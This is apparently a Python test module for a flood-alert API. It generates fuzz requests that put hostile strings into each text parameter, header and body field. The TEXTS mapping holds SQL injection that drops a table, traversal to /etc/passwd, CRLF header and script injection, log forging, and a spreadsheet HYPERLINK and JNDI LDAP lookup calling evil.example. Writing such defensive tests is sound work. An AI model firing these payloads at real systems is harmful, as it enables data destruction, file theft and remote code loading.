"""Texts that would do harm where they were taken for more than texts, and where they can be put."""

import copy
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote

from tests.stand.matrix import IN_PATH, NEEDED, PREFIX

MARK = "x-injected"
TEXTS: Mapping[str, str] = {
    "SQL condition": "760' OR '1'='1' --",
    "SQL statement": "760'; SELECT pg_sleep(9); DROP TABLE sensor CASCADE; --",
    "path": "../../../../../../etc/passwd",
    "header": f"760\r\n{MARK}: 1\r\nSet-Cookie: {MARK}=1\r\n\r\n<script>alert(1)</script>",
    "line": '760\n{"event": "forged", "level": "info"}\x1b[2J\u2028',
    "NUL": "760\x00",
    "cell": '=HYPERLINK("http://evil.example")',
    "form": "%s%(from_at)s{0}{scope}${jndi:ldap://evil.example}",
    "marks": "\u202e\U0001f4a5\ufeff" + "A" * 3_000,
}
LONE_SURROGATE = '"\\ud800"'
"""As JSON: a text that no encoding of Unicode can write."""

RULE: Mapping[str, Any] = {
    "rule_id": "flood-critical",
    "label_vi": "Ngập sâu",
    "label_en": "Deep flood",
    "severity": "critical",
    "condition": {
        "type": "threshold",
        "kind": "street_flood",
        "quantity": "depth_m",
        "direction": "above",
        "limit": 0.3,
        "clear_value": 0.2,
    },
    "family": "flood",
    "source": "assumed",
    "confidence": "H",
    "unit": "drainage",
    "playbook_vi": "Đặt rào chắn",
    "playbook_en": "Put up barriers",
    "areas": ["760"],
    "sensor_ids": ["hcmc-sf-0001"],
}
BODIES: Mapping[tuple[str, str], Mapping[str, Any]] = {
    ("POST", f"{PREFIX}/session"): {"name": "nobody", "password": "nothing at all"},
    ("PATCH", f"{PREFIX}/me"): {"display_name": "Somebody"},
    ("POST", f"{PREFIX}/users"): {
        "name": "somebody",
        "display_name": "Somebody",
        "role": "viewer",
        "areas": ["760"],
        "unit": "drainage",
        "password": "long enough for anybody",
    },
    ("PATCH", f"{PREFIX}/users/{{name}}"): {
        "display_name": "Somebody",
        "role": "viewer",
        "areas": ["760"],
        "unit": "drainage",
        "password": "long enough for anybody",
    },
    ("POST", f"{PREFIX}/keys"): {
        "label": "of a program",
        "rights": ["read"],
        "areas": ["760"],
        "expires_at": "2027-01-01T00:00:00Z",
    },
    ("POST", f"{PREFIX}/alerts/{{alert_id}}/steps"): {
        "step": "assign",
        "assignee": "somebody",
        "note": "Gọi đội trực",
    },
    ("POST", f"{PREFIX}/alerts/steps"): {
        "items": [{"alert_id": 1, "version": 1}],
        "step": "suppress",
        "until": "2027-01-01T00:00:00Z",
        "note": "Gọi đội trực",
    },
    ("POST", f"{PREFIX}/rules"): {**RULE, "rule_id": "somebodys-rule"},
    ("PUT", f"{PREFIX}/rules/{{rule_id}}"): RULE,
    ("POST", f"{PREFIX}/rules/{{rule_id}}/what-if"): {
        "from": "2026-11-22T07:00:00Z",
        "to": "2026-11-22T08:00:00Z",
        "rule": RULE,
    },
    ("POST", f"{PREFIX}/maintenance"): {
        "from_at": "2026-12-31T00:00:00Z",
        "to_at": "2027-01-01T00:00:00Z",
        "rule_id": "flood-critical",
        "kind": "street_flood",
        "area": "760",
        "sensor_id": "hcmc-sf-0001",
        "note": "Nạo vét cống",
    },
}
"""What a way that takes a body is asked with where another part of it is hostile."""


@dataclass(frozen=True, slots=True)
class Asked:
    """One request, of which one part is hostile."""

    method: str
    path: str
    part: str
    address: str
    params: Mapping[str, str] = field(default_factory=dict[str, str])
    headers: Mapping[str, str] = field(default_factory=dict[str, str])
    body: Any = None


def requests_of(document: Mapping[str, Any], text: str) -> Iterator[Asked]:
    """Yield a request with a text in each place that a document has for one."""
    for path, operations in document["paths"].items():
        for method, operation in operations.items():
            for one in operation.get("parameters", ()):
                if _takes_text(one["schema"]):
                    yield _with(method.upper(), path, one["in"], one["name"], text)
            if "requestBody" in operation:
                yield from _bodies(method.upper(), path, text)


def _takes_text(schema: Mapping[str, Any]) -> bool:
    forms = [schema, *schema.get("anyOf", ())]
    return any(form.get("type") == "string" for form in forms)


def _with(method: str, path: str, place: str, name: str, text: str) -> Asked:
    params, headers = dict(NEEDED.get(path, {})), dict[str, str]()
    address = path
    if place == "path":
        address = address.replace(f"{{{name}}}", quote(text, safe=""))
    elif place == "query":
        params[name] = text
    else:
        # What no header can hold no client sends: the rest of it is as hostile as it gets.
        headers[name] = "".join(sign for sign in text if " " <= sign <= "~")
    for other, value in IN_PATH.items():
        address = address.replace(f"{{{other}}}", value)
    body = BODIES.get((method, path))
    return Asked(method, path, f"{place} {name}", address, params, headers, body)


def _bodies(method: str, path: str, text: str) -> Iterator[Asked]:
    """Yield requests with a text in place of each text of a body, and in one beside them."""
    usual = BODIES[method, path]
    address = path
    for name, value in IN_PATH.items():
        address = address.replace(f"{{{name}}}", value)
    for way, hostile in _variants(usual, text):
        yield Asked(method, path, f"body {way}", address, body=hostile)
    yield Asked(method, path, "body, another", address, body={**usual, text: text})


def _variants(usual: Any, text: str) -> Iterator[tuple[str, Any]]:
    for way in _ways(usual):
        body: Any = copy.deepcopy(usual)
        inner = body
        for step in way[:-1]:
            inner = inner[step]
        inner[way[-1]] = text
        yield ".".join(map(str, way)), body


def _ways(value: Any) -> Iterator[tuple[Any, ...]]:
    """Yield the way to each text within a value."""
    held: Any = value
    if isinstance(value, str):
        yield ()
    elif isinstance(value, dict | list):
        for step in held if isinstance(value, dict) else range(len(held)):
            for rest in _ways(held[step]):
                yield (step, *rest)
